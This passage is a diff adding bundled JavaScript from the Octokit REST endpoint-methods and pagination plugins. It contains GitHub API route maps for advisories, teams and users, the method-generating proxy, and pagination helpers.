+      "POST /repos/{owner}/{repo}/security-advisories"
+    ],
+    createRepositoryAdvisoryCveRequest: [
+      "POST /repos/{owner}/{repo}/security-advisories/{ghsa_id}/cve"
+    ],
+    getGlobalAdvisory: ["GET /advisories/{ghsa_id}"],
+    getRepositoryAdvisory: [
+      "GET /repos/{owner}/{repo}/security-advisories/{ghsa_id}"
+    ],
+    listGlobalAdvisories: ["GET /advisories"],
+    listOrgRepositoryAdvisories: ["GET /orgs/{org}/security-advisories"],
+    listRepositoryAdvisories: ["GET /repos/{owner}/{repo}/security-advisories"],
+    updateRepositoryAdvisory: [
+      "PATCH /repos/{owner}/{repo}/security-advisories/{ghsa_id}"
+    ]
+  },
+  teams: {
+    addOrUpdateMembershipForUserInOrg: [
+      "PUT /orgs/{org}/teams/{team_slug}/memberships/{username}"
+    ],
+    addOrUpdateRepoPermissionsInOrg: [
+      "PUT /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
+    ],
+    checkPermissionsForRepoInOrg: [
+      "GET /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
+    ],
+    create: ["POST /orgs/{org}/teams"],
+    createDiscussionCommentInOrg: [
+      "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments"
+    ],
+    createDiscussionInOrg: ["POST /orgs/{org}/teams/{team_slug}/discussions"],
+    deleteDiscussionCommentInOrg: [
+      "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
+    ],
+    deleteDiscussionInOrg: [
+      "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
+    ],
+    deleteInOrg: ["DELETE /orgs/{org}/teams/{team_slug}"],
+    getByName: ["GET /orgs/{org}/teams/{team_slug}"],
+    getDiscussionCommentInOrg: [
+      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
+    ],
+    getDiscussionInOrg: [
+      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
+    ],
+    getMembershipForUserInOrg: [
+      "GET /orgs/{org}/teams/{team_slug}/memberships/{username}"
+    ],
+    list: ["GET /orgs/{org}/teams"],
+    listChildInOrg: ["GET /orgs/{org}/teams/{team_slug}/teams"],
+    listDiscussionCommentsInOrg: [
+      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments"
+    ],
+    listDiscussionsInOrg: ["GET /orgs/{org}/teams/{team_slug}/discussions"],
+    listForAuthenticatedUser: ["GET /user/teams"],
+    listMembersInOrg: ["GET /orgs/{org}/teams/{team_slug}/members"],
+    listPendingInvitationsInOrg: [
+      "GET /orgs/{org}/teams/{team_slug}/invitations"
+    ],
+    listReposInOrg: ["GET /orgs/{org}/teams/{team_slug}/repos"],
+    removeMembershipForUserInOrg: [
+      "DELETE /orgs/{org}/teams/{team_slug}/memberships/{username}"
+    ],
+    removeRepoInOrg: [
+      "DELETE /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
+    ],
+    updateDiscussionCommentInOrg: [
+      "PATCH /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
+    ],
+    updateDiscussionInOrg: [
+      "PATCH /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
+    ],
+    updateInOrg: ["PATCH /orgs/{org}/teams/{team_slug}"]
+  },
+  users: {
+    addEmailForAuthenticated: [
+      "POST /user/emails",
+      {},
+      { renamed: ["users", "addEmailForAuthenticatedUser"] }
+    ],
+    addEmailForAuthenticatedUser: ["POST /user/emails"],
+    addSocialAccountForAuthenticatedUser: ["POST /user/social_accounts"],
+    block: ["PUT /user/blocks/{username}"],
+    checkBlocked: ["GET /user/blocks/{username}"],
+    checkFollowingForUser: ["GET /users/{username}/following/{target_user}"],
+    checkPersonIsFollowedByAuthenticated: ["GET /user/following/{username}"],
+    createGpgKeyForAuthenticated: [
+      "POST /user/gpg_keys",
+      {},
+      { renamed: ["users", "createGpgKeyForAuthenticatedUser"] }
+    ],
+    createGpgKeyForAuthenticatedUser: ["POST /user/gpg_keys"],
+    createPublicSshKeyForAuthenticated: [
+      "POST /user/keys",
+      {},
+      { renamed: ["users", "createPublicSshKeyForAuthenticatedUser"] }
+    ],
+    createPublicSshKeyForAuthenticatedUser: ["POST /user/keys"],
+    createSshSigningKeyForAuthenticatedUser: ["POST /user/ssh_signing_keys"],
+    deleteAttestationsBulk: [
+      "POST /users/{username}/attestations/delete-request"
+    ],
+    deleteAttestationsById: [
+      "DELETE /users/{username}/attestations/{attestation_id}"
+    ],
+    deleteAttestationsBySubjectDigest: [
+      "DELETE /users/{username}/attestations/digest/{subject_digest}"
+    ],
+    deleteEmailForAuthenticated: [
+      "DELETE /user/emails",
+      {},
+      { renamed: ["users", "deleteEmailForAuthenticatedUser"] }
+    ],
+    deleteEmailForAuthenticatedUser: ["DELETE /user/emails"],
+    deleteGpgKeyForAuthenticated: [
+      "DELETE /user/gpg_keys/{gpg_key_id}",
+      {},
+      { renamed: ["users", "deleteGpgKeyForAuthenticatedUser"] }
+    ],
+    deleteGpgKeyForAuthenticatedUser: ["DELETE /user/gpg_keys/{gpg_key_id}"],
+    deletePublicSshKeyForAuthenticated: [
+      "DELETE /user/keys/{key_id}",
+      {},
+      { renamed: ["users", "deletePublicSshKeyForAuthenticatedUser"] }
+    ],
+    deletePublicSshKeyForAuthenticatedUser: ["DELETE /user/keys/{key_id}"],
+    deleteSocialAccountForAuthenticatedUser: ["DELETE /user/social_accounts"],
+    deleteSshSigningKeyForAuthenticatedUser: [
+      "DELETE /user/ssh_signing_keys/{ssh_signing_key_id}"
+    ],
+    follow: ["PUT /user/following/{username}"],
+    getAuthenticated: ["GET /user"],
+    getById: ["GET /user/{account_id}"],
+    getByUsername: ["GET /users/{username}"],
+    getContextForUser: ["GET /users/{username}/hovercard"],
+    getGpgKeyForAuthenticated: [
+      "GET /user/gpg_keys/{gpg_key_id}",
+      {},
+      { renamed: ["users", "getGpgKeyForAuthenticatedUser"] }
+    ],
+    getGpgKeyForAuthenticatedUser: ["GET /user/gpg_keys/{gpg_key_id}"],
+    getPublicSshKeyForAuthenticated: [
+      "GET /user/keys/{key_id}",
+      {},
+      { renamed: ["users", "getPublicSshKeyForAuthenticatedUser"] }
+    ],
+    getPublicSshKeyForAuthenticatedUser: ["GET /user/keys/{key_id}"],
+    getSshSigningKeyForAuthenticatedUser: [
+      "GET /user/ssh_signing_keys/{ssh_signing_key_id}"
+    ],
+    list: ["GET /users"],
+    listAttestations: ["GET /users/{username}/attestations/{subject_digest}"],
+    listAttestationsBulk: [
+      "POST /users/{username}/attestations/bulk-list{?per_page,before,after}"
+    ],
+    listBlockedByAuthenticated: [
+      "GET /user/blocks",
+      {},
+      { renamed: ["users", "listBlockedByAuthenticatedUser"] }
+    ],
+    listBlockedByAuthenticatedUser: ["GET /user/blocks"],
+    listEmailsForAuthenticated: [
+      "GET /user/emails",
+      {},
+      { renamed: ["users", "listEmailsForAuthenticatedUser"] }
+    ],
+    listEmailsForAuthenticatedUser: ["GET /user/emails"],
+    listFollowedByAuthenticated: [
+      "GET /user/following",
+      {},
+      { renamed: ["users", "listFollowedByAuthenticatedUser"] }
+    ],
+    listFollowedByAuthenticatedUser: ["GET /user/following"],
+    listFollowersForAuthenticatedUser: ["GET /user/followers"],
+    listFollowersForUser: ["GET /users/{username}/followers"],
+    listFollowingForUser: ["GET /users/{username}/following"],
+    listGpgKeysForAuthenticated: [
+      "GET /user/gpg_keys",
+      {},
+      { renamed: ["users", "listGpgKeysForAuthenticatedUser"] }
+    ],
+    listGpgKeysForAuthenticatedUser: ["GET /user/gpg_keys"],
+    listGpgKeysForUser: ["GET /users/{username}/gpg_keys"],
+    listPublicEmailsForAuthenticated: [
+      "GET /user/public_emails",
+      {},
+      { renamed: ["users", "listPublicEmailsForAuthenticatedUser"] }
+    ],
+    listPublicEmailsForAuthenticatedUser: ["GET /user/public_emails"],
+    listPublicKeysForUser: ["GET /users/{username}/keys"],
+    listPublicSshKeysForAuthenticated: [
+      "GET /user/keys",
+      {},
+      { renamed: ["users", "listPublicSshKeysForAuthenticatedUser"] }
+    ],
+    listPublicSshKeysForAuthenticatedUser: ["GET /user/keys"],
+    listSocialAccountsForAuthenticatedUser: ["GET /user/social_accounts"],
+    listSocialAccountsForUser: ["GET /users/{username}/social_accounts"],
+    listSshSigningKeysForAuthenticatedUser: ["GET /user/ssh_signing_keys"],
+    listSshSigningKeysForUser: ["GET /users/{username}/ssh_signing_keys"],
+    setPrimaryEmailVisibilityForAuthenticated: [
+      "PATCH /user/email/visibility",
+      {},
+      { renamed: ["users", "setPrimaryEmailVisibilityForAuthenticatedUser"] }
+    ],
+    setPrimaryEmailVisibilityForAuthenticatedUser: [
+      "PATCH /user/email/visibility"
+    ],
+    unblock: ["DELETE /user/blocks/{username}"],
+    unfollow: ["DELETE /user/following/{username}"],
+    updateAuthenticated: ["PATCH /user"]
+  }
+};
+var endpoints_default = Endpoints;
+
+//# sourceMappingURL=endpoints.js.map
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/plugin-rest-endpoint-methods/dist-src/endpoints-to-methods.js
+
+const endpointMethodsMap = /* @__PURE__ */ new Map();
+for (const [scope, endpoints] of Object.entries(endpoints_default)) {
+  for (const [methodName, endpoint] of Object.entries(endpoints)) {
+    const [route, defaults, decorations] = endpoint;
+    const [method, url] = route.split(/ /);
+    const endpointDefaults = Object.assign(
+      {
+        method,
+        url
+      },
+      defaults
+    );
+    if (!endpointMethodsMap.has(scope)) {
+      endpointMethodsMap.set(scope, /* @__PURE__ */ new Map());
+    }
+    endpointMethodsMap.get(scope).set(methodName, {
+      scope,
+      methodName,
+      endpointDefaults,
+      decorations
+    });
+  }
+}
+const handler = {
+  has({ scope }, methodName) {
+    return endpointMethodsMap.get(scope).has(methodName);
+  },
+  getOwnPropertyDescriptor(target, methodName) {
+    return {
+      value: this.get(target, methodName),
+      // ensures method is in the cache
+      configurable: true,
+      writable: true,
+      enumerable: true
+    };
+  },
+  defineProperty(target, methodName, descriptor) {
+    Object.defineProperty(target.cache, methodName, descriptor);
+    return true;
+  },
+  deleteProperty(target, methodName) {
+    delete target.cache[methodName];
+    return true;
+  },
+  ownKeys({ scope }) {
+    return [...endpointMethodsMap.get(scope).keys()];
+  },
+  set(target, methodName, value) {
+    return target.cache[methodName] = value;
+  },
+  get({ octokit, scope, cache }, methodName) {
+    if (cache[methodName]) {
+      return cache[methodName];
+    }
+    const method = endpointMethodsMap.get(scope).get(methodName);
+    if (!method) {
+      return void 0;
+    }
+    const { endpointDefaults, decorations } = method;
+    if (decorations) {
+      cache[methodName] = decorate(
+        octokit,
+        scope,
+        methodName,
+        endpointDefaults,
+        decorations
+      );
+    } else {
+      cache[methodName] = octokit.request.defaults(endpointDefaults);
+    }
+    return cache[methodName];
+  }
+};
+function endpointsToMethods(octokit) {
+  const newMethods = {};
+  for (const scope of endpointMethodsMap.keys()) {
+    newMethods[scope] = new Proxy({ octokit, scope, cache: {} }, handler);
+  }
+  return newMethods;
+}
+function decorate(octokit, scope, methodName, defaults, decorations) {
+  const requestWithDefaults = octokit.request.defaults(defaults);
+  function withDecorations(...args) {
+    let options = requestWithDefaults.endpoint.merge(...args);
+    if (decorations.mapToData) {
+      options = Object.assign({}, options, {
+        data: options[decorations.mapToData],
+        [decorations.mapToData]: void 0
+      });
+      return requestWithDefaults(options);
+    }
+    if (decorations.renamed) {
+      const [newScope, newMethodName] = decorations.renamed;
+      octokit.log.warn(
+        `octokit.${scope}.${methodName}() has been renamed to octokit.${newScope}.${newMethodName}()`
+      );
+    }
+    if (decorations.deprecated) {
+      octokit.log.warn(decorations.deprecated);
+    }
+    if (decorations.renamedParameters) {
+      const options2 = requestWithDefaults.endpoint.merge(...args);
+      for (const [name, alias] of Object.entries(
+        decorations.renamedParameters
+      )) {
+        if (name in options2) {
+          octokit.log.warn(
+            `"${name}" parameter is deprecated for "octokit.${scope}.${methodName}()". Use "${alias}" instead`
+          );
+          if (!(alias in options2)) {
+            options2[alias] = options2[name];
+          }
+          delete options2[name];
+        }
+      }
+      return requestWithDefaults(options2);
+    }
+    return requestWithDefaults(...args);
+  }
+  return Object.assign(withDecorations, requestWithDefaults);
+}
+
+//# sourceMappingURL=endpoints-to-methods.js.map
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/plugin-rest-endpoint-methods/dist-src/index.js
+
+
+function restEndpointMethods(octokit) {
+  const api = endpointsToMethods(octokit);
+  return {
+    rest: api
+  };
+}
+restEndpointMethods.VERSION = dist_src_version_VERSION;
+function legacyRestEndpointMethods(octokit) {
+  const api = endpointsToMethods(octokit);
+  return {
+    ...api,
+    rest: api
+  };
+}
+legacyRestEndpointMethods.VERSION = dist_src_version_VERSION;
+
+//# sourceMappingURL=index.js.map
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/plugin-paginate-rest/dist-bundle/index.js
+// pkg/dist-src/version.js
+var plugin_paginate_rest_dist_bundle_VERSION = "0.0.0-development";
+
+// pkg/dist-src/normalize-paginated-list-response.js
+function normalizePaginatedListResponse(response) {
+  if (!response.data) {
+    return {
+      ...response,
+      data: []
+    };
+  }
+  const responseNeedsNormalization = ("total_count" in response.data || "total_commits" in response.data) && !("url" in response.data);
+  if (!responseNeedsNormalization) return response;
+  const incompleteResults = response.data.incomplete_results;
+  const repositorySelection = response.data.repository_selection;
+  const totalCount = response.data.total_count;
+  const totalCommits = response.data.total_commits;
+  delete response.data.incomplete_results;
+  delete response.data.repository_selection;
+  delete response.data.total_count;
+  delete response.data.total_commits;
+  const namespaceKey = Object.keys(response.data)[0];
+  const data = response.data[namespaceKey];
+  response.data = data;
+  if (typeof incompleteResults !== "undefined") {
+    response.data.incomplete_results = incompleteResults;
+  }
+  if (typeof repositorySelection !== "undefined") {
+    response.data.repository_selection = repositorySelection;
+  }
+  response.data.total_count = totalCount;
+  response.data.total_commits = totalCommits;
+  return response;
+}
+
+// pkg/dist-src/iterator.js
+function iterator(octokit, route, parameters) {
+  const options = typeof route === "function" ? route.endpoint(parameters) : octokit.request.endpoint(route, parameters);
+  const requestMethod = typeof route === "function" ? route : octokit.request;
+  const method = options.method;
+  const headers = options.headers;
+  let url = options.url;
+  return {
+    [Symbol.asyncIterator]: () => ({
+      async next() {
+        if (!url) return { done: true };
+        try {
+          const response = await requestMethod({ method, url, headers });
+          const normalizedResponse = normalizePaginatedListResponse(response);
+          url = ((normalizedResponse.headers.link || "").match(
+            /<([^<>]+)>;\s*rel="next"/
+          ) || [])[1];
+          if (!url && "total_commits" in normalizedResponse.data) {
+            const parsedUrl = new URL(normalizedResponse.url);
+            const params = parsedUrl.searchParams;
+            const page = parseInt(params.get("page") || "1", 10);
+            const per_page = parseInt(params.get("per_page") || "250", 10);
+            if (page * per_page < normalizedResponse.data.total_commits) {
+              params.set("page", String(page + 1));
+              url = parsedUrl.toString();
+            }
+          }
+          return { value: normalizedResponse };
+        } catch (error) {
+          if (error.status !== 409) throw error;
+          url = "";
+          return {
+            value: {
+              status: 200,
+              headers: {},
+              data: []
+            }
+          };
+        }
+      }
+    })
+  };
+}
+
+// pkg/dist-src/paginate.js
+function paginate(octokit, route, parameters, mapFn) {
+  if (typeof parameters === "function") {
+    mapFn = parameters;
+    parameters = void 0;
+  }
+  return gather(
+    octokit,
+    [],
+    iterator(octokit, route, parameters)[Symbol.asyncIterator](),
+    mapFn
+  );
+}
+function gather(octokit, results, iterator2, mapFn) {
+  return iterator2.next().then((result) => {
+    if (result.done) {
+      return results;
+    }
+    let earlyExit = false;
+    function done() {
+      earlyExit = true;
+    }
+    results = results.concat(
+      mapFn ? mapFn(result.value, done) : result.value.data
+    );
+    if (earlyExit) {
+      return results;
+    }
+    return gather(octokit, results, iterator2, mapFn);
+  });
+}
+
+// pkg/dist-src/compose-paginate.js
+var composePaginateRest = Object.assign(paginate, {
+  iterator
+});
+
+// pkg/dist-src/generated/paginating-endpoints.js
+var paginatingEndpoints = (/* unused pure expression or super */ null && ([
+  "GET /advisories",
+  "GET /app/hook/deliveries",
+  "GET /app/installation-requests",
+  "GET /app/installations",
+  "GET /assignments/{assignment_id}/accepted_assignments",
+  "GET /classrooms",
+  "GET /classrooms/{classroom_id}/assignments",
+  "GET /enterprises/{enterprise}/code-security/configurations",
+  "GET /enterprises/{enterprise}/code-security/configurations/{configuration_id}/repositories",
+  "GET /enterprises/{enterprise}/dependabot/alerts",
+  "GET /enterprises/{enterprise}/teams",
+  "GET /enterprises/{enterprise}/teams/{enterprise-team}/memberships",
+  "GET /enterprises/{enterprise}/teams/{enterprise-team}/organizations",
+  "GET /events",
+  "GET /gists",
+  "GET /gists/public",
+  "GET /gists/starred",
+  "GET /gists/{gist_id}/comments",
+  "GET /gists/{gist_id}/commits",
+  "GET /gists/{gist_id}/forks",
+  "GET /installation/repositories",
+  "GET /issues",
+  "GET /licenses",
+  "GET /marketplace_listing/plans",
+  "GET /marketplace_listing/plans/{plan_id}/accounts",
+  "GET /marketplace_listing/stubbed/plans",
+  "GET /marketplace_listing/stubbed/plans/{plan_id}/accounts",
+  "GET /networks/{owner}/{repo}/events",
+  "GET /notifications",
+  "GET /organizations",
+  "GET /organizations/{org}/dependabot/repository-access",
+  "GET /orgs/{org}/actions/cache/usage-by-repository",
+  "GET /orgs/{org}/actions/hosted-runners",
+  "GET /orgs/{org}/actions/permissions/repositories",
+  "GET /orgs/{org}/actions/permissions/self-hosted-runners/repositories",
+  "GET /orgs/{org}/actions/runner-groups",
+  "GET /orgs/{org}/actions/runner-groups/{runner_group_id}/hosted-runners",
+  "GET /orgs/{org}/actions/runner-groups/{runner_group_id}/repositories",
+  "GET /orgs/{org}/actions/runner-groups/{runner_group_id}/runners",
+  "GET /orgs/{org}/actions/runners",
+  "GET /orgs/{org}/actions/secrets",
+  "GET /orgs/{org}/actions/secrets/{secret_name}/repositories",
+  "GET /orgs/{org}/actions/variables",
+  "GET /orgs/{org}/actions/variables/{name}/repositories",
+  "GET /orgs/{org}/attestations/repositories",
+  "GET /orgs/{org}/attestations/{subject_digest}",
+  "GET /orgs/{org}/blocks",
+  "GET /orgs/{org}/campaigns",
+  "GET /orgs/{org}/code-scanning/alerts",
+  "GET /orgs/{org}/code-security/configurations",
+  "GET /orgs/{org}/code-security/configurations/{configuration_id}/repositories",
+  "GET /orgs/{org}/codespaces",
+  "GET /orgs/{org}/codespaces/secrets",
+  "GET /orgs/{org}/codespaces/secrets/{secret_name}/repositories",
+  "GET /orgs/{org}/copilot/billing/seats",
+  "GET /orgs/{org}/copilot/metrics",
+  "GET /orgs/{org}/dependabot/alerts",
+  "GET /orgs/{org}/dependabot/secrets",
+  "GET /orgs/{org}/dependabot/secrets/{secret_name}/repositories",
+  "GET /orgs/{org}/events",
+  "GET /orgs/{org}/failed_invitations",
+  "GET /orgs/{org}/hooks",
+  "GET /orgs/{org}/hooks/{hook_id}/deliveries",
+  "GET /orgs/{org}/insights/api/route-stats/{actor_type}/{actor_id}",
+  "GET /orgs/{org}/insights/api/subject-stats",
+  "GET /orgs/{org}/insights/api/user-stats/{user_id}",
+  "GET /orgs/{org}/installations",
+  "GET /orgs/{org}/invitations",
+  "GET /orgs/{org}/invitations/{invitation_id}/teams",
+  "GET /orgs/{org}/issues",
+  "GET /orgs/{org}/members",
+  "GET /orgs/{org}/members/{username}/codespaces",
+  "GET /orgs/{org}/migrations",
+  "GET /orgs/{org}/migrations/{migration_id}/repositories",
+  "GET /orgs/{org}/organization-roles/{role_id}/teams",
+  "GET /orgs/{org}/organization-roles/{role_id}/users",
+  "GET /orgs/{org}/outside_collaborators",
+  "GET /orgs/{org}/packages",
+  "GET /orgs/{org}/packages/{package_type}/{package_name}/versions",
+  "GET /orgs/{org}/personal-access-token-requests",
+  "GET /orgs/{org}/personal-access-token-requests/{pat_request_id}/repositories",
+  "GET /orgs/{org}/personal-access-tokens",
+  "GET /orgs/{org}/personal-access-tokens/{pat_id}/repositories",
+  "GET /orgs/{org}/private-registries",
+  "GET /orgs/{org}/projects",
+  "GET /orgs/{org}/projectsV2",
+  "GET /orgs/{org}/projectsV2/{project_number}/fields",
+  "GET /orgs/{org}/projectsV2/{project_number}/items",
+  "GET /orgs/{org}/properties/values",
+  "GET /orgs/{org}/public_members",
+  "GET /orgs/{org}/repos",
+  "GET /orgs/{org}/rulesets",
+  "GET /orgs/{org}/rulesets/rule-suites",
+  "GET /orgs/{org}/rulesets/{ruleset_id}/history",
+  "GET /orgs/{org}/secret-scanning/alerts",
+  "GET /orgs/{org}/security-advisories",
+  "GET /orgs/{org}/settings/immutable-releases/repositories",
+  "GET /orgs/{org}/settings/network-configurations",
+  "GET /orgs/{org}/team/{team_slug}/copilot/metrics",
+  "GET /orgs/{org}/teams",
+  "GET /orgs/{org}/teams/{team_slug}/discussions",
+  "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments",
+  "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions",
+  "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions",
+  "GET /orgs/{org}/teams/{team_slug}/invitations",
+  "GET /orgs/{org}/teams/{team_slug}/members",
+  "GET /orgs/{org}/teams/{team_slug}/projects",
+  "GET /orgs/{org}/teams/{team_slug}/repos",
+  "GET /orgs/{org}/teams/{team_slug}/teams",
+  "GET /projects/{project_id}/collaborators",
+  "GET /repos/{owner}/{repo}/actions/artifacts",
+  "GET /repos/{owner}/{repo}/actions/caches",
+  "GET /repos/{owner}/{repo}/actions/organization-secrets",
+  "GET /repos/{owner}/{repo}/actions/organization-variables",
+  "GET /repos/{owner}/{repo}/actions/runners",
+  "GET /repos/{owner}/{repo}/actions/runs",
+  "GET /repos/{owner}/{repo}/actions/runs/{run_id}/artifacts",
+  "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/jobs",
+  "GET /repos/{owner}/{repo}/actions/runs/{run_id}/jobs",
+  "GET /repos/{owner}/{repo}/actions/secrets",
+  "GET /repos/{owner}/{repo}/actions/variables",
+  "GET /repos/{owner}/{repo}/actions/workflows",
+  "GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/runs",
+  "GET /repos/{owner}/{repo}/activity",
+  "GET /repos/{owner}/{repo}/assignees",
+  "GET /repos/{owner}/{repo}/attestations/{subject_digest}",
+  "GET /repos/{owner}/{repo}/branches",
+  "GET /repos/{owner}/{repo}/check-runs/{check_run_id}/annotations",
+  "GET /repos/{owner}/{repo}/check-suites/{check_suite_id}/check-runs",
+  "GET /repos/{owner}/{repo}/code-scanning/alerts",
+  "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/instances",
+  "GET /repos/{owner}/{repo}/code-scanning/analyses",
+  "GET /repos/{owner}/{repo}/codespaces",
+  "GET /repos/{owner}/{repo}/codespaces/devcontainers",
+  "GET /repos/{owner}/{repo}/codespaces/secrets",
+  "GET /repos/{owner}/{repo}/collaborators",
+  "GET /repos/{owner}/{repo}/comments",
+  "GET /repos/{owner}/{repo}/comments/{comment_id}/reactions",
+  "GET /repos/{owner}/{repo}/commits",
+  "GET /repos/{owner}/{repo}/commits/{commit_sha}/comments",
+  "GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls",
+  "GET /repos/{owner}/{repo}/commits/{ref}/check-runs",
+  "GET /repos/{owner}/{repo}/commits/{ref}/check-suites",
+  "GET /repos/{owner}/{repo}/commits/{ref}/status",
+  "GET /repos/{owner}/{repo}/commits/{ref}/statuses",
+  "GET /repos/{owner}/{repo}/compare/{basehead}",
+  "GET /repos/{owner}/{repo}/compare/{base}...{head}",
+  "GET /repos/{owner}/{repo}/contributors",
+  "GET /repos/{owner}/{repo}/dependabot/alerts",
+  "GET /repos/{owner}/{repo}/dependabot/secrets",
+  "GET /repos/{owner}/{repo}/deployments",
+  "GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses",
+  "GET /repos/{owner}/{repo}/environments",
+  "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies",
+  "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/apps",
+  "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets",
+  "GET /repos/{owner}/{repo}/environments/{environment_name}/variables",
+  "GET /repos/{owner}/{repo}/events",
+  "GET /repos/{owner}/{repo}/forks",
+  "GET /repos/{owner}/{repo}/hooks",
+  "GET /repos/{owner}/{repo}/hooks/{hook_id}/deliveries",
+  "GET /repos/{owner}/{repo}/invitations",
+  "GET /repos/{owner}/{repo}/issues",
+  "GET /repos/{owner}/{repo}/issues/comments",
+  "GET /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions",
+  "GET /repos/{owner}/{repo}/issues/events",
+  "GET /repos/{owner}/{repo}/issues/{issue_number}/comments",
+  "GET /repos/{owner}/{repo}/issues/{issue_number}/dependencies/blocked_by",
+  "GET /repos/{owner}/{repo}/issues/{issue_number}/dependencies/blocking",
+  "GET /repos/{owner}/{repo}/issues/{issue_number}/events",
+  "GET /repos/{owner}/{repo}/issues/{issue_number}/labels",
+  "GET /repos/{owner}/{repo}/issues/{issue_number}/reactions",
+  "GET /repos/{owner}/{repo}/issues/{issue_number}/sub_issues",
+  "GET /repos/{owner}/{repo}/issues/{issue_number}/timeline",
+  "GET /repos/{owner}/{repo}/keys",
+  "GET /repos/{owner}/{repo}/labels",
+  "GET /repos/{owner}/{repo}/milestones",
+  "GET /repos/{owner}/{repo}/milestones/{milestone_number}/labels",
+  "GET /repos/{owner}/{repo}/notifications",
+  "GET /repos/{owner}/{repo}/pages/builds",
+  "GET /repos/{owner}/{repo}/projects",
+  "GET /repos/{owner}/{repo}/pulls",
+  "GET /repos/{owner}/{repo}/pulls/comments",
+  "GET /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions",
+  "GET /repos/{owner}/{repo}/pulls/{pull_number}/comments",
+  "GET /repos/{owner}/{repo}/pulls/{pull_number}/commits",
+  "GET /repos/{owner}/{repo}/pulls/{pull_number}/files",
+  "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews",
+  "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/comments",
+  "GET /repos/{owner}/{repo}/releases",
+  "GET /repos/{owner}/{repo}/releases/{release_id}/assets",
+  "GET /repos/{owner}/{repo}/releases/{release_id}/reactions",
+  "GET /repos/{owner}/{repo}/rules/branches/{branch}",
+  "GET /repos/{owner}/{repo}/rulesets",
+  "GET /repos/{owner}/{repo}/rulesets/rule-suites",
+  "GET /repos/{owner}/{repo}/rulesets/{ruleset_id}/history",
+  "GET /repos/{owner}/{repo}/secret-scanning/alerts",
+  "GET /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}/locations",
+  "GET /repos/{owner}/{repo}/security-advisories",
+  "GET /repos/{owner}/{repo}/stargazers",
+  "GET /repos/{owner}/{repo}/subscribers",
+  "GET /repos/{owner}/{repo}/tags",
+  "GET /repos/{owner}/{repo}/teams",
+  "GET /repos/{owner}/{repo}/topics",
+  "GET /repositories",
+  "GET /search/code",
+  "GET /search/commits",
+  "GET /search/issues",
+  "GET /search/labels",
+  "GET /search/repositories",
+  "GET /search/topics",
+  "GET /search/users",
+  "GET /teams/{team_id}/discussions",
+  "GET /teams/{team_id}/discussions/{discussion_number}/comments",
+  "GET /teams/{team_id}/discussions/{discussion_number}/comments/{comment_number}/reactions",
+  "GET /teams/{team_id}/discussions/{discussion_number}/reactions",
+  "GET /teams/{team_id}/invitations",
+  "GET /teams/{team_id}/members",
+  "GET /teams/{team_id}/projects",
+  "GET /teams/{team_id}/repos",
+  "GET /teams/{team_id}/teams",
+  "GET /user/blocks",
+  "GET /user/codespaces",
+  "GET /user/codespaces/secrets",
+  "GET /user/emails",
+  "GET /user/followers",
+  "GET /user/following",
+  "GET /user/gpg_keys",
+  "GET /user/installations",
+  "GET /user/installations/{installation_id}/repositories",
+  "GET /user/issues",
+  "GET /user/keys",
+  "GET /user/marketplace_purchases",
+  "GET /user/marketplace_purchases/stubbed",
+  "GET /user/memberships/orgs",
+  "GET /user/migrations",
+  "GET /user/migrations/{migration_id}/repositories",
+  "GET /user/orgs",
+  "GET /user/packages",
+  "GET /user/packages/{package_type}/{package_name}/versions",
+  "GET /user/public_emails",
+  "GET /user/repos",
+  "GET /user/repository_invitations",
+  "GET /user/social_accounts",
+  "GET /user/ssh_signing_keys",
+  "GET /user/starred",
+  "GET /user/subscriptions",
+  "GET /user/teams",
+  "GET /users",
+  "GET /users/{username}/attestations/{subject_digest}",
+  "GET /users/{username}/events",
+  "GET /users/{username}/events/orgs/{org}",
+  "GET /users/{username}/events/public",
+  "GET /users/{username}/followers",
+  "GET /users/{username}/following",
+  "GET /users/{username}/gists",
+  "GET /users/{username}/gpg_keys",
+  "GET /users/{username}/keys",
+  "GET /users/{username}/orgs",
+  "GET /users/{username}/packages",
+  "GET /users/{username}/projects",
+  "GET /users/{username}/projectsV2",
+  "GET /users/{username}/projectsV2/{project_number}/fields",
+  "GET /users/{username}/projectsV2/{project_number}/items",
+  "GET /users/{username}/received_events",
+  "GET /users/{username}/received_events/public",
+  "GET /users/{username}/repos",
+  "GET /users/{username}/social_accounts",
+  "GET /users/{username}/ssh_signing_keys",
+  "GET /users/{username}/starred",
+  "GET /users/{username}/subscriptions"
+]));
+
+// pkg/dist-src/paginating-endpoints.js
+function isPaginatingEndpoint(arg) {
+  if (typeof arg === "string") {
+    return paginatingEndpoints.includes(arg);
+  } else {
+    return false;
+  }
+}
+
+// pkg/dist-src/index.js
+function paginateRest(octokit) {
+  return {
+    paginate: Object.assign(paginate.bind(null, octokit), {
+      iterator: iterator.bind(null, octokit)
+    })
+  };
+}
